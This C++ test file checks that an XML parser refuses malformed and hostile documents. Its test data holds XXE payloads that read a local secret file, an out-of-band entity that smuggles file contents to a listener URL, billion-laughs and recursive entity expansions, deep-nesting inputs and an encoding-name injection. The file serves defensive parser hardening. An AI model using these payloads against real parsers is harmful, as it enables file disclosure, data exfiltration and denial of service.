// Hostile and broken documents: each must be refused soon, and leave nothing.
#include "tests/xml/XmlFixture.h"

#include "src/charset/CodePage.h"
#include "tests/xml/Listener.h"

#include <functional>
#include <string>
#include <utility>
#include <vector>

namespace vnbytstr::test {
namespace {

std::string Times(std::size_t count, const std::string& text) {
    std::string all;
    for (std::size_t i = 0; i < count; ++i)
        all += text;
    return all;
}

class XercesHostileTest : public XmlTest {
protected:
    void ExpectRefused(const std::string& document, const std::string& name) {
        ASSERT_TRUE(m_xml.Create("before"));
        m_files.Write("hostile.xml", document);
        EXPECT_FALSE(m_xml.LoadFile(m_files.File("hostile.xml").c_str())) << name;
        EXPECT_NE(m_xml.GetLastParseError().m_severity, SXMLParseError::kNone) << name;
        XMLElement root;
        EXPECT_FALSE(m_xml.GetRootElement(root)) << name;
        if (document.find('\0') == std::string::npos) {
            EXPECT_FALSE(Load(document)) << name;
            EXPECT_FALSE(m_xml.GetRootElement(root)) << name;
        }
        EXPECT_TRUE(Load("<alive/>")) << name;
    }
};

TEST_F(XercesHostileTest, BrokenDocuments) {
    const std::pair<const char*, std::string> documents[] = {
        {"empty", ""},
        {"blanks", " \n\t "},
        {"text after the root", "<a/>x"},
        {"not closed", "<a><b></b>"},
        {"attribute twice", "<a x='1' x='2'/>"},
        {"undeclared entity", "<a>&nobody;</a>"},
        {"NUL in text", std::string("<a>\0</a>", 8)},
        {"NUL in a name", std::string("<a\0b/>", 6)},
        {"NUL in an attribute", std::string("<a x='\0'/>", 10)},
        {"only NULs", std::string(100, '\0')},
        {"unknown encoding", "<?xml version='1.0' encoding='no-such-thing'?><a/>"},
        {"encoding with an injection", "<?xml version='1.0' encoding='../../x%s%n'?><a/>"},
        {"says UTF-16, is UTF-8", "<?xml version='1.0' encoding='utf-16'?><a/>"},
        {"says UTF-8, is Latin-1", "<?xml version='1.0' encoding='utf-8'?><a>\xE4</a>"},
        {"says UTF-8, long form", "<?xml version='1.0' encoding='utf-8'?><a>\xC0\xAF</a>"},
        {"says UTF-8, surrogates", "<?xml version='1.0' encoding='utf-8'?><a>\xED\xA0\x80</a>"},
        {"says UTF-8, cut", "<?xml version='1.0' encoding='utf-8'?><a>\xE2\x82"},
        {"mark of UTF-16 before ASCII", "\xFE\xFF<a/>"},
        {"odd bytes of UTF-16", std::string("\xFF\xFE<\0a\0/\0>", 9)},
        {"lone surrogate in UTF-16", std::string("\xFF\xFE<\0a\0>\0\x00\xD8<\0/\0a\0>\0", 18)},
        {"mark of UTF-32 before ASCII", std::string("\0\0\xFE\xFF<a/>", 8)},
        {"EBCDIC that is none", "\x4C\x6F\xA7\x94 nonsense"},
        {"noncharacter", "<a>\xEF\xBF\xBF</a>"},
    };
    const ScopedCodePage page(65001); // where a broken text has no second chance
    for (const auto& [name, document] : documents)
        ExpectRefused(document, name);
    EXPECT_TRUE(m_system.OpenHandles().empty());
}

TEST_F(XercesHostileTest, EveryTruncationOfADocument) {
    const std::string whole = "<?xml version='1.0' encoding='utf-8'?><!DOCTYPE r [<!ENTITY e 'x'>"
                              "<!ATTLIST r a CDATA 'd'>]><!--c--><r b='\xC3\xA4&#x41;'><?p i?>"
                              "<![CDATA[<]]>&e;<s/>\xE6\x97\xA5</r>";
    for (std::size_t size = 0; size < whole.size(); ++size)
        ExpectRefused(whole.substr(0, size), std::to_string(size));
    EXPECT_TRUE(Load(whole));
}

TEST_F(XercesHostileTest, DocumentTypesThatReachOutOrExplode) {
    const Listener listener;
    const std::string secret = m_files.File("secret");
    m_files.Write("secret", "<!ENTITY found 'secret'>");
    const auto type = [](const std::string& declarations, const std::string& content = "") {
        return "<!DOCTYPE a [" + declarations + "]><a>" + content + "</a>";
    };
    std::string tenfold = "<!ENTITY l0 'lol'>";
    for (int i = 1; i < 10; ++i) {
        const std::string below = "&l" + std::to_string(i - 1) + ";";
        tenfold += "<!ENTITY l" + std::to_string(i) + " '" + Times(10, below) + "'>";
    }
    const std::pair<const char*, std::string> documents[] = {
        {"file as entity", type("<!ENTITY e SYSTEM '" + secret + "'>", "&e;")},
        {"file as URI", type("<!ENTITY e SYSTEM 'file://" + secret + "'>", "&e;")},
        {"file beside", type("<!ENTITY e SYSTEM 'secret'>", "&e;")},
        {"public", type("<!ENTITY e PUBLIC 'p' '" + secret + "'>", "&e;")},
        {"network", type("<!ENTITY e SYSTEM '" + listener.Url() + "'>", "&e;")},
        {"file in the document type", type("<!ENTITY % e SYSTEM '" + secret + "'>%e;", "&found;")},
        {"network in the document type", type("<!ENTITY % e SYSTEM '" + listener.Url() + "'>%e;")},
        {"smuggled out",
         type("<!ENTITY % f SYSTEM '" + secret + "'><!ENTITY % s \"<!ENTITY e SYSTEM '" +
                  listener.Url() + "?%f;'>\">%s;",
              "&e;")},
        {"file in an attribute", "<!DOCTYPE a [<!ENTITY e SYSTEM '" + secret + "'>]><a x='&e;'/>"},
        {"external in an entity",
         type("<!ENTITY e SYSTEM '" + secret + "'><!ENTITY f '&e;'>", "&f;")},
        {"external type defines it", "<!DOCTYPE a SYSTEM '" + secret + "'><a>&found;</a>"},
        {"unparsed entity", type("<!NOTATION n SYSTEM 'n'><!ENTITY e SYSTEM 'x' NDATA n>", "&e;")},
        {"tenfold tenfold", type(tenfold, "&l9;")},
        {"tenfold in an attribute", "<!DOCTYPE a [" + tenfold + "]><a x='&l9;'/>"},
        {"tenfold in a default", "<!DOCTYPE a [" + tenfold + "<!ATTLIST a x CDATA '&l9;'>]><a/>"},
        {"1001 references", type("<!ENTITY e 'x'>", Times(1001, "&e;"))},
        {"itself", type("<!ENTITY e '&e;'>", "&e;")},
        {"in a circle", type("<!ENTITY e '&f;'><!ENTITY f '&g;'><!ENTITY g '&e;'>", "&e;")},
        {"in a circle in an attribute",
         "<!DOCTYPE a [<!ENTITY e '&f;'><!ENTITY f '&e;'>]><a x='&e;'/>"},
        {"parameter in a circle", type("<!ENTITY % e '&#37;f;'><!ENTITY % f '&#37;e;'>%e;")},
        {"nested groups", "<!DOCTYPE a [<!ELEMENT a " + Times(200000, "(")},
        {"nested sequences, closed",
         "<!DOCTYPE a [<!ELEMENT a " + Times(100000, "(b,") + "b" + Times(100000, ")") + ">]><a/>"},
    };
    for (const auto& [name, document] : documents)
        ExpectRefused(document, name);
    EXPECT_FALSE(listener.WasAsked());
    EXPECT_TRUE(Load(type("<!ENTITY e 'x'>", Times(999, "&e;"))));

    // These ask for files too, in ways that are not for this parser: what they name stays text.
    for (const std::string& document :
         {"<a xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='" + secret + "'/></a>",
          "<a xmlns:x='http://www.w3.org/2001/XMLSchema-instance' x:noNamespaceSchemaLocation='" +
              listener.Url() + "'/>",
          "<?xml-stylesheet href='" + listener.Url() + "'?><a/>",
          "<!DOCTYPE a SYSTEM '" + listener.Url() + "'><a/>",
          "<!DOCTYPE a PUBLIC 'p' '" + secret + "' [<!ENTITY e 'x'>]><a>&e;</a>"})
        EXPECT_TRUE(Load(document)) << document;
    EXPECT_FALSE(listener.WasAsked());
    EXPECT_EQ(Text().find("secret'"), std::string::npos);
}

TEST_F(XercesHostileTest, DepthEndsAtAThousandLevels) {
    const auto nested = [](std::size_t depth) {
        return Times(depth, "<a>") + Times(depth, "</a>");
    };
    EXPECT_TRUE(Load(nested(1000)));
    CString text;
    EXPECT_TRUE(m_xml.GetXML(text));
    EXPECT_TRUE(m_xml.Save(m_files.File("x").c_str(), true));
    ExpectRefused(nested(1001), "1001 levels");
    EXPECT_FALSE(Load(nested(1001)));
    EXPECT_NE(m_xml.GetLastParseError().m_strMessage.Find("1000"), -1);
    EXPECT_EQ(m_xml.GetLastParseError().m_charNo, 3004u);
    ExpectRefused(nested(200000), "200000 levels");
    ExpectRefused(Times(1000000, "<a>"), "never closed");
    ExpectRefused("<!DOCTYPE a [<!ENTITY e '" + Times(600, "<b>") + Times(600, "</b>") + "'>]>" +
                      Times(600, "<a>") + "&e;" + Times(600, "</a>"),
                  "depth from an entity");
    EXPECT_TRUE(Load("<a>" + Times(50000, "<b/>") + "</a>")); // wide is not deep
}

/// `count` numbered pieces.
std::string Numbered(int count, const std::string& before, const std::string& after) {
    std::string all;
    for (int i = 0; i < count; ++i)
        all += before + std::to_string(i) + after;
    return all;
}

TEST_F(XercesHostileTest, NamesAndDeclarationsEnd) {
    const auto type = [](const std::string& declarations, int elements) {
        return "<!DOCTYPE r [" + declarations + "]><q>" +
               Times(static_cast<std::size_t>(elements), "<r/>") + "</q>";
    };
    struct Case {
        const char* what;
        int most, more;
        std::function<std::string(int)> make;
    };
    const Case cases[] = {
        {"names of elements", 32767, 300000,
         [](int n) { return "<r>" + Numbered(n, "<e", "/>") + "</r>"; }},
        {"attributes of one element", 32768, 400000,
         [](int n) { return "<r" + Numbered(n, " a", "=''") + "/>"; }},
        {"names of attributes", 32000, 400000,
         [](int n) { return "<r>" + Numbered(n, "<e a", "=''/>") + "</r>"; }},
        {"entities", 10000, 200000,
         [&](int n) { return type(Numbered(n, "<!ENTITY e", " 'x'>"), 1); }},
        {"notations", 10000, 200000,
         [&](int n) { return type(Numbered(n, "<!NOTATION n", " SYSTEM 'x'>"), 1); }},
        {"declared elements", 10000, 200000,
         [&](int n) { return type(Numbered(n, "<!ELEMENT e", " ANY>"), 1); }},
        {"attributes of many declared elements", 10000, 200000,
         [&](int n) { return type(Numbered(n, "<!ATTLIST e", " a CDATA #IMPLIED>"), 1); }},
        {"declared attributes of one element", 346, 20000,
         [&](int n) { return type(Numbered(n, "<!ATTLIST r a", " CDATA ''>"), 1); }},
        {"defaults for many elements", 540, 100000,
         [&](int n) { return type(Numbered(200, "<!ATTLIST r a", " CDATA ''>"), n); }},
    };
    for (const Case& each : cases) {
        EXPECT_TRUE(Load(each.make(each.most))) << each.what;
        ExpectRefused(each.make(each.more), each.what);
    }
}

TEST_F(XercesHostileTest, MemoryEndsWhereItIsPromised) {
    // In the default of an attribute references are not counted, but each takes 150 KB for a while.
    const auto references = [](std::size_t count) {
        return "<!DOCTYPE a [<!ENTITY e 'x'><!ATTLIST a x CDATA '" + Times(count, "&e;") +
               "'>]><a/>";
    };
    const auto padding = [](std::size_t size) { return "<!--" + std::string(size, 'x') + "-->"; };
    EXPECT_TRUE(Load(references(1000)));
    // Bytes before them let them take a little more, bytes after them nothing.
    for (const std::string& document : {references(5000), padding(300000) + references(5000),
                                        references(5000) + padding(3 << 20)}) {
        ExpectRefused(document, std::to_string(document.size()));
        EXPECT_FALSE(Load(document));
        EXPECT_NE(m_xml.GetLastParseError().m_strMessage.Find("far more memory"), -1);
    }
}

TEST_F(XercesHostileTest, GiantPieces) {
    const std::string big(5u << 20, 'x');
    EXPECT_TRUE(Load("<a x='" + big + "'/>"));
    EXPECT_EQ(Attribute(Root(), "x").size(), big.size());
    EXPECT_TRUE(Load("<a>" + big + "</a>"));
    EXPECT_TRUE(Load("<" + big + "/>"));
    EXPECT_TRUE(Load("<a><!--" + big + "--></a>"));
    ExpectRefused("<a x='" + big, "giant attribute, cut");
    ExpectRefused("<" + big, "giant name, cut");
    ExpectRefused("<!DOCTYPE a [<!ENTITY e '" + big, "giant entity, cut");
    std::string many = "<a";
    for (int i = 0; i < 20000; ++i)
        many += " a" + std::to_string(i * 7919 % 20011) + "='x'";
    EXPECT_TRUE(Load(many + "/>"));
    ExpectRefused(many + " a5='y' a5='z'/>", "one of many twice");
}

} // namespace
} // namespace vnbytstr::test
